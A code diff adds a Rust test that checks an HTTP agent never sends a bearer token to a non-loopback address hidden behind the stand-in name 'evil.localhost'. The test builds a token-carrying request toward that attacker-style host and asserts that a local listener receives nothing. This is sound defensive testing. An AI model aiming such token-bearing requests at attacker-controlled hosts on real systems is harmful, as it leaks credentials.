@@ -197,4 +197,53 @@ mod tests {
         let err = lookup(&r, "http://app.localhost:9/").unwrap_err();
         assert!(err.contains("192.0.2.7"), "{err}");
     }
+
+    /// End to end through an agent: a DNS answer pointing `evil.localhost` at this machine's own
+    /// non-loopback address, where a listener waits; a request carrying a token never arrives.
+    /// Without the check the listener receives `authorization: Bearer ...`.
+    #[test]
+    fn a_token_never_reaches_a_non_loopback_address_behind_a_loopback_name() {
+        use std::io::Read;
+        // The address of the outgoing interface (a UDP connect sends nothing).
+        let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
+        let local = probe
+            .connect("192.0.2.1:9")
+            .and_then(|()| probe.local_addr())
+            .map(|a| a.ip())
+            .ok()
+            .filter(|ip| !ip.is_loopback() && !ip.is_unspecified());
+        let Some(local) = local else {
+            eprintln!("skipped: this machine has no non-loopback address to listen on");
+            return;
+        };
+        let listener = std::net::TcpListener::bind((local, 0)).unwrap();
+        let target = listener.local_addr().unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let agent = ureq::Agent::with_parts(
+            Config::builder().max_redirects(0).build(),
+            ureq::unversioned::transport::DefaultConnector::new(),
+            answering(true, &[&local.to_string()]),
+        );
+        let result = agent
+            .get(format!(
+                "http://evil.localhost:{}/v1/app/setup",
+                target.port()
+            ))
+            .header("Authorization", "Bearer secret-token")
+            .config()
+            .timeout_global(Some(Duration::from_secs(2)))
+            .build()
+            .call();
+        assert!(result.is_err());
+        match listener.accept() {
+            Ok((mut peer, _)) => {
+                let mut seen = String::new();
+                peer.set_read_timeout(Some(Duration::from_millis(500)))
+                    .unwrap();
+                let _ = peer.read_to_string(&mut seen);
+                panic!("a connection reached {target}: {seen:?}");
+            }
+            Err(e) => assert_eq!(e.kind(), std::io::ErrorKind::WouldBlock),
+        }
+    }
 }
